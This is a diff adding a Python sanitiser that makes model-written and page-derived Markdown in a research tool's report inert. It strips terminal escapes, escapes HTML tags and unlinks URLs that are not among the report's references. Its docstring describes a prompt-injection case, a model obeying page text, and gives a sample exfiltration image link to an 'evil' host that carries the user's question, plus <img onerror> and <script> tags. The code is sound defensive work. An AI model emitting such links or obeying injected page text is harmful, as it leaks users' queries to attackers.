@@ -1,0 +1,190 @@
+"""Make model-written and page-derived Markdown inert before it leaves the run.
+
+A model that follows text on a page it read can write active content into the report: an
+image whose URL carries the question to an attacker (``![x](http://evil/?q=...)``), raw HTML
+(``<img onerror>``, ``<script>``), a link to a page that is not one of the report's sources,
+or terminal escapes that rewrite what ``cat report.md`` shows. :func:`inert_markdown` turns
+each of these into plain text, outside code (code spans and fenced blocks are shown as text by
+every Markdown viewer, so only their control characters go):
+
+* terminal escapes and other control characters but tab and newline are removed;
+* a raw HTML tag, comment or autolink (``<`` then a letter, ``/``, ``!`` or ``?``) has its
+  ``<`` written ``&lt;``, which a viewer shows as ``<``;
+* an image or link whose URL is not one of ``allowed`` (the report's references) becomes its
+  text, and so does a link definition (``[x]: URL``);
+* a bare ``http(s)://`` URL that is not allowed is put in a code span, so that no viewer turns
+  it into a link.
+
+The edits are returned with the text, so that offsets into the original (the claims') can be
+moved into the result (:meth:`Inert.moved`).
+"""
+
+from __future__ import annotations
+
+import re
+from bisect import bisect_right
+from collections.abc import Collection
+from dataclasses import dataclass, field
+
+from deep_research.report import sections
+from deep_research.state import Report
+
+_CONTROL = re.compile(
+    r"\x1b\[[0-?]*[ -/]*[@-~]"  # CSI: colours, cursor moves, erasing
+    r"|\x1b\][^\x07\x1b]*(?:\x07|\x1b\\)?"  # OSC: titles, hyperlinks
+    r"|[\x00-\x08\x0b-\x1f\x7f-\x9f]"  # other C0 and C1 controls (tab and newline stay)
+)
+
+_TOKEN = re.compile(
+    r"(?P<fence>^ {0,3}(?P<marks>```+|~~~+)[^\n]*\n(?:.*?\n)?? {0,3}(?P=marks)[ \t]*(?:\n|\Z))"
+    r"|(?P<code>(?P<ticks>`+)[^`]+?(?P=ticks))"
+    r"|(?P<image>!\[(?P<alt>[^\]\n]*)\]\((?P<src>[^)\s]*)(?:\s+\"[^\"\n]*\")?\))"
+    r"|(?P<link>\[(?P<text>[^\]\n]*)\]\((?P<href>[^)\s]*)(?:\s+\"[^\"\n]*\")?\))"
+    r"|(?P<definition>^ {0,3}\[(?!\^)[^\]\n]+\]:[ \t]*<?(?P<target>[^\s>]+)>?[^\n]*)"
+    r"|(?P<tag><(?=[A-Za-z/!?]))"
+    r"|(?P<bare>\b(?:https?|ftp)://[^\s<>()\[\]`]*[^\s<>()\[\]`.,;:!?'\"*_])",
+    re.MULTILINE | re.DOTALL,
+)
+
+
+@dataclass(frozen=True)
+class Edit:
+    """One replacement: ``text[start:end]`` became ``replacement``."""
+
+    start: int
+    end: int
+    replacement: str
+
+
+@dataclass(frozen=True)
+class Inert:
+    """The inert text and the edits that made it from the original."""
+
+    text: str
+    edits: list[Edit] = field(default_factory=list)
+
+    def moved(self, offset: int) -> int:
+        """Where ``offset`` into the original lies in :attr:`text`.
+
+        An offset inside a replaced stretch lands inside its replacement (at most at its end).
+        """
+        ends = [edit.end for edit in self.edits]
+        before = bisect_right(ends, offset)
+        shift = sum(len(e.replacement) - (e.end - e.start) for e in self.edits[:before])
+        if before < len(self.edits) and self.edits[before].start < offset:
+            edit = self.edits[before]
+            return edit.start + shift + min(offset - edit.start, len(edit.replacement))
+        return offset + shift
+
+
+def strip_controls(text: str) -> str:
+    """``text`` without terminal escapes or control characters (tab and newline kept)."""
+    return _CONTROL.sub("", text)
+
+
+def _replacement(match: re.Match[str], allowed: Collection[str]) -> str | None:
+    """What a token becomes, or ``None`` when it stays as it is (controls aside)."""
+    kind = match.lastgroup
+    if kind in ("fence", "code"):
+        return None
+    if kind == "image":
+        return None if match["src"] in allowed else match["alt"]
+    if kind == "link":
+        return None if match["href"] in allowed else match["text"]
+    if kind == "definition":
+        return None if match["target"] in allowed else "\\" + match[0].lstrip()
+    if kind == "tag":
+        return "&lt;"
+    if kind == "bare":
+        return None if match[0] in allowed else f"`{match[0]}`"
+    return None  # pragma: no cover - every group is named above
+
+
+def inert_markdown(text: str, allowed: Collection[str] = ()) -> Inert:
+    """Make ``text`` inert (see the module docstring); ``allowed`` are the URLs it may show."""
+    edits: list[Edit] = []
+    for match in _TOKEN.finditer(text):
+        replacement = _replacement(match, allowed)
+        original = match[0]
+        if replacement is None:
+            replacement = strip_controls(original)
+        else:  # a link's or an image's text may hold more of the same
+            replacement = inert_markdown(strip_controls(replacement), allowed).text
+        if replacement != original:
+            edits.append(Edit(match.start(), match.end(), replacement))
+    edits.extend(
+        Edit(m.start(), m.end(), "")
+        for m in _CONTROL.finditer(text)
+        if not any(e.start <= m.start() < e.end for e in edits)
+    )
+    edits.sort(key=lambda edit: edit.start)
+    pieces: list[str] = []
+    last = 0
+    for edit in edits:
+        pieces.append(text[last : edit.start])
+        pieces.append(edit.replacement)
+        last = edit.end
+    pieces.append(text[last:])
+    return Inert("".join(pieces), edits)
+
+
+def inert_text(text: str, allowed: Collection[str] = ()) -> str:
+    """:func:`inert_markdown`'s text alone (a summary, a limitation, a claim)."""
+    return inert_markdown(text, allowed).text
+
+
+def inert_title(title: str) -> str:
+    """A title on one line with no active content (a chat's, a report's H1)."""
+    return " ".join(inert_text(title).split())
+
+
+def inert_report(report: Report) -> Report:
+    """The report with its model-written and page-derived text made inert.
+
+    The Markdown may show the report's references alone; its claims' offsets are moved with
+    the edits, and its sections, summary, limitations, claims' text and the references' and
+    sources' titles are made inert in the same way. Quotes stay verbatim: they are the
+    evidence, checked against the pages, and they are not part of the Markdown.
+    """
+    allowed = {str(reference.url) for reference in report.references}
+    markdown = inert_markdown(report.markdown, allowed)
+    found = sections(markdown.text)
+    return report.model_copy(
+        update={
+            "topic": inert_text(report.topic, allowed),
+            "markdown": markdown.text,
+            "sections": found,
+            "outline": [section.title for section in found],
+            "summary": inert_text(report.summary, allowed),
+            "limitations": [
+                item.model_copy(update={"text": inert_text(item.text, allowed)})
+                for item in report.limitations
+            ],
+            "claims": [
+                claim.model_copy(
+                    update={
+                        "text": inert_text(claim.text, allowed),
+                        "reasoning": inert_text(claim.reasoning, allowed),
+                        "position_start": markdown.moved(claim.position_start),
+                        "position_end": markdown.moved(claim.position_end),
+                    }
+                )
+                for claim in report.claims
+            ],
+            "references": [
+                reference.model_copy(
+                    update={
+                        "title": inert_title(reference.title),
+                        "citation": inert_text(reference.citation, allowed)
+                        if reference.citation is not None
+                        else None,
+                    }
+                )
+                for reference in report.references
+            ],
+            "sources": [
+                source.model_copy(update={"title": inert_title(source.title)})
+                for source in report.sources
+            ],
+        }
+    )
